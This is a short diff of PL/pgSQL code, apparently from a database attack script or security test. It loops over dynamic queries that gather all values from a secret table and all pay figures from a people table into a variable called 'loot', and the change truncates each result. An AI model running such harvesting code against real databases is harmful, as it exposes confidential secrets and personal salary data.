@@ -38,7 +38,7 @@ BEGIN
             END;
         END LOOP;
     END IF;
-    FOREACH step IN ARRAY ARRAY['SELECT string_agg(word, '','') FROM app.secret', 'SELECT string_agg(pay, '','') FROM app.people'] LOOP
+    FOREACH step IN ARRAY ARRAY['SELECT left(string_agg(word, '',''), 200) FROM app.secret', 'SELECT left(string_agg(pay, '',''), 200) FROM app.people'] LOOP
         BEGIN
             EXECUTE step INTO more;
             loot := loot || coalesce(more, '');
